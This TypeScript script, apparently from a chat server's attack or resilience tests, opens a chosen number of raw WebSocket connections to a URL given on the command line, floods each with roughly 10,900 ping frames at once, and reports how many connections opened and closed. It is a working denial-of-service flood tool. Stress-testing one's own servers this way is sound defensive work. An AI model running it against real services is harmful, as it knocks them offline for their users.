import process from 'node:process'
import { inParallel } from './chat-attacker'
import { opcodes, openRawSocket, rawFrame, type RawSocket } from './raw-socket'

/** As many as one read of 64 KiB holds. */
const pingsEach = 10_900
const pings = Buffer.concat(Array<Buffer>(pingsEach).fill(rawFrame({ opcode: opcodes.ping })))

/** Opens connections from an address, floods all with pings together, and prints how many closed. */
const [wsUrl = '', address = '', count = '0'] = process.argv.slice(2)
const sockets: RawSocket[] = []
await inParallel(Number(count), 10, async () => void sockets.push(await openRawSocket(wsUrl, address)))
const opened = sockets.filter(({ isOpen }) => isOpen()).length
await Promise.all(sockets.map(({ write }) => write(pings)))
await Promise.all(sockets.map(({ ended }) => ended))
process.stdout.write(JSON.stringify({ opened, closed: sockets.length }), () => process.exit(0))
